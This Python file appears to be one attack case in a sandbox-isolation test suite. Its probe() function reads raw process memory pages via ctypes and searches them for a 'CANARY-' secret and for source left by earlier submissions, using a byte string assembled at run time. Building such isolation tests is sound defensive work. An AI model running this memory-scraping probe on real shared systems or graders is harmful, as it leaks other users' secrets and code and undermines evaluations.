# /// attack
# row = 7
# what.en = "Scans its own memory, which is a copy of the zygote's, for a secret and for the source of earlier submissions."
# what.zh = "扫描自己的内存（它是 zygote 的副本），寻找秘密和先前提交的源码。"
# tiers = ["A", "B", "C", "D", "E"]
# runs = 2
# ///
import ctypes
import gc
import re
import sys

KNOWN = {}
# Put together at run time, so that nothing here is what is sought.
EARLIER = bytes([115, 101, 108, 102, 46, 116, 111, 116, 97, 108, 32, 43, 61, 32, 50])  # of the submission before


def probe():
    secret = re.compile(b"CANARY-[0-9a-f]{32}")
    found = []
    pages = set()
    for thing in gc.get_objects():
        pages.add(id(thing) >> 12)
        for each in gc.get_referents(thing):
            pages.add(id(each) >> 12)
    static = {id(each) >> 12 for each in (None, True, int, str, sys)}
    for page in sorted(pages - static)[:4000]:
        data = ctypes.string_at(page << 12, 4096)
        found += [each.decode() for each in secret.findall(data)]
        found += ["an earlier submission" for _ in re.findall(EARLIER + b" \\* n", data)]
    return found[:5]
